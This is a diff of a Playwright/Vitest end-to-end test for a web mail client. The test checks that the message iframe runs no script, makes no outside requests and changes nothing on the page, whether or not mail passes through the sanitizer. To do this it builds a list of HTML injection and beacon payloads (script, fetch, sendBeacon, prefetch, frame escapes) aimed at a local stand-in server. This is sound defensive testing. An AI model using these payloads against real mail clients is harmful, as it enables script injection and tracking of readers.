@@ -1,38 +1,24 @@
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { generateAddress, sendBySmtp } from '#tests/support/home-page.ts';
 import { setUpSite } from '#tests/support/site.ts';
+import { type Stranger, showUnprotected, startStranger } from '#tests/support/stranger.ts';
 
-// Many steps each, on whatever machine: slow is not wrong.
+// Each test has many steps, and a slow machine must not fail them.
 vi.setConfig({ testTimeout: 90_000 });
 
-let sink: Server;
-let url: string;
-/** Every connection to the stranger, also one that asks for nothing, and every path it was asked for. */
-let reached: string[] = [];
-
+let stranger: Stranger;
 const site = setUpSite();
 beforeAll(async () => {
-  sink = createServer((request, response) => {
-    reached.push(request.url ?? '');
-    response.writeHead(200, { 'content-type': 'image/svg+xml', 'access-control-allow-origin': '*' });
-    response.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
-  });
-  sink.on('connection', () => reached.push('connection'));
-  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
-  url = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
+  stranger = await startStranger();
 });
-afterAll(async () => {
-  sink?.close();
-});
+afterAll(() => stranger?.close());
 
 const script =
   "try{top.owned=1}catch(e){};try{parent.postMessage('owned','*')}catch(e){};document.title='owned'";
 
-/** What comes through when nothing is taken out. */
-const attacks = () => `
+/** Everything a mail could try, as it would arrive without a sanitizer. */
+const attacks = (url: string) => `
 <script>${script};fetch('${url}/fetch');new Image().src='${url}/image';navigator.sendBeacon('${url}/beacon')</script>
 <script src="${url}/script.js"></script><script type="module">import '${url}/module.js'</script>
 <link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}"><link rel="prefetch" href="${url}/prefetch">
@@ -68,28 +54,35 @@ html,body,div.over{position:fixed!important;inset:-5000px!important;z-index:2147
 <a id="self" href="${url}/self" target="_self" ping="${url}/ping">self</a>
 <p>END OF MAIL</p>`;
 
-/** Opens a harmless mail, then puts this into its very frame, as if no sanitizer had stood in between. */
+/** Waits until the same attacks have reached a server from a page without protection. */
+const untilAttacksWork = () =>
+  showUnprotected(site.browser, attacks, ['/fetch', '/css', '/img', '/iframe', '/object', '/refresh']);
+
+/** Opens a harmless mail and then puts this HTML into its frame, as if there were no sanitizer. */
 async function showUnsanitized(page: Page, html: string, { remote = false } = {}) {
   const address = await generateAddress(page);
   await sendBySmtp(site.app.smtpPort, {
     to: address,
     subject: 'The frame',
-    html: `<p>PLACE</p>${remote ? `<img src="${url}/consented" alt="">` : ''}`,
+    html: `<p>PLACE</p>${remote ? `<img src="${stranger.url}/consented" alt="">` : ''}`,
   });
   await page.getByRole('button', { name: /The frame/ }).click();
   await page.frameLocator('iframe[title="Message"]').getByText('PLACE').waitFor();
-  if (remote) await page.getByRole('button', { name: 'Show remote images' }).click();
-  await page.waitForTimeout(300);
-  reached = [];
+  if (remote) {
+    await page.getByRole('button', { name: 'Show remote images' }).click();
+    await expect.poll(() => stranger.seen.requests).toContain('/consented');
+  }
+  stranger.forget();
   const around = await outside(page);
   await page.evaluate(`(() => {
     const frame = document.querySelector('iframe[title="Message"]');
     frame.srcdoc = frame.srcdoc.replace('PLACE', () => ${JSON.stringify(html)});
   })()`);
+  await page.frameLocator('iframe[title="Message"]').getByText('END OF MAIL').waitFor({ state: 'attached' });
   return { around };
 }
 
-/** The page without its frame and without what counts time. */
+/** The page without the frame and without its timers. */
 const outside = (page: Page) =>
   page.evaluate(`(() => {
     const copy = document.documentElement.cloneNode(true);
@@ -100,8 +93,8 @@ const outside = (page: Page) =>
 
 const isOwned = (page: Page) => page.evaluate("'owned' in window");
 
-describe('the frame of a mail, with no sanitizer before it', () => {
-  it('runs no script, asks nobody for anything and changes nothing around it', async () => {
+describe('the message frame, without a sanitizer', () => {
+  it('runs no script, requests nothing and changes nothing outside of it', async () => {
     const { page, context, problems } = await site.browser.openPage(site.app.http);
     let dialogs = 0;
     page.on('dialog', (dialog) => {
@@ -111,26 +104,26 @@ describe('the frame of a mail, with no sanitizer before it', () => {
     await page.evaluate(
       "addEventListener('message', ({ data }) => { if (data === 'owned') window.owned = 1 })",
     );
-    const { around } = await showUnsanitized(page, attacks());
-    await page.waitForTimeout(1_500);
+    const { around } = await showUnsanitized(page, attacks(stranger.url));
+    await untilAttacksWork();
 
     const frame = page.frames().find((one) => one.parentFrame() === page.mainFrame())!;
     for (const id of ['js', 'data', 'top', 'parent-link', 'submit'])
       await frame.evaluate(`document.getElementById('${id}')?.click()`).catch(() => {});
-    await page.waitForTimeout(500);
+    await untilAttacksWork();
 
-    // For a frame within the frame Chromium connects before it reads the policy, and then asks for nothing. The
-    // sanitizers let no such frame through: the test below.
-    expect(reached.filter((what) => what !== 'connection')).toEqual([]);
+    // Chromium connects for a nested frame before it reads the policy, but sends no request. The sanitizers remove
+    // nested frames: see the test below.
+    expect(stranger.seen.requests).toEqual([]);
     expect(dialogs).toBe(0);
     expect(await isOwned(page)).toBe(false);
     expect(await page.title()).not.toContain('owned');
     expect(page.url()).toBe(`${site.app.http}/`);
     expect(await outside(page)).toEqual(around);
-    // What covers everything covers its own frame.
+    // A fixed element covers only its own frame.
     const top = await page.evaluate("document.elementFromPoint(60, 20)?.closest('header') !== null");
     expect(top).toBe(true);
-    // The frame is nobody: it has no storage and no way to the page.
+    // No frame shows a page of an origin.
     const inside = page.frames().filter((one) => one !== page.mainFrame());
     expect(
       inside.every(
@@ -144,16 +137,16 @@ describe('the frame of a mail, with no sanitizer before it', () => {
     await context.close();
   });
 
-  it('loads pictures and nothing but pictures once the reader asked for them', async () => {
+  it('loads only images after the reader asks for them', async () => {
     const { page, context } = await site.browser.openPage(site.app.http);
     const kinds = new Set<string>();
     page.on('requestfinished', (request) => {
-      if (request.url().startsWith(url)) kinds.add(request.resourceType());
+      if (request.url().startsWith(stranger.url)) kinds.add(request.resourceType());
     });
-    await showUnsanitized(page, attacks(), { remote: true });
-    await expect.poll(() => reached.includes('/img')).toBe(true);
-    await page.waitForTimeout(700);
-    // A prefetch that policies count as a picture is 'other'.
+    await showUnsanitized(page, attacks(stranger.url), { remote: true });
+    await expect.poll(() => stranger.seen.requests).toContain('/img');
+    await untilAttacksWork();
+    // A preloaded image has the type 'other'.
     expect([...kinds].filter((kind) => kind !== 'other')).toEqual(['image']);
     for (const path of [
       '/fetch',
@@ -167,30 +160,30 @@ describe('the frame of a mail, with no sanitizer before it', () => {
       '/object',
       '/top',
     ])
-      expect(reached, path).not.toContain(path);
+      expect(stranger.seen.requests, path).not.toContain(path);
     expect(await isOwned(page)).toBe(false);
     expect(page.url()).toBe(`${site.app.http}/`);
     await context.close();
   });
 });
 
-describe('the same mail on its usual way', () => {
-  it('makes not even a connection', async () => {
+describe('the same mail through the sanitizers', () => {
+  it('does not even open a connection', async () => {
     const { page, context } = await site.browser.openPage(site.app.http);
     const address = await generateAddress(page);
-    reached = [];
-    const html = `<p>PLACE</p>${attacks()}`;
+    stranger.forget();
+    const html = `<p>PLACE</p>${attacks(stranger.url)}`;
     await sendBySmtp(site.app.smtpPort, { to: address, subject: 'The frame', html });
     await page.getByRole('button', { name: /The frame/ }).click();
     await page.frameLocator('iframe[title="Message"]').getByText('PLACE').waitFor();
-    await page.waitForTimeout(1_000);
-    expect(reached).toEqual([]);
+    await untilAttacksWork();
+    expect(stranger.seen).toEqual({ requests: [], connections: 0 });
     await context.close();
   });
 });
 
-describe('a mail that pretends', () => {
-  it('shows the true host of a link and the true address of its sender', async () => {
+describe('a deceptive mail', () => {
+  it('shows the real host of its links and the real address of its sender', async () => {
     const { page, context } = await site.browser.openPage(site.app.http);
     const address = await generateAddress(page);
     await sendBySmtp(site.app.smtpPort, {
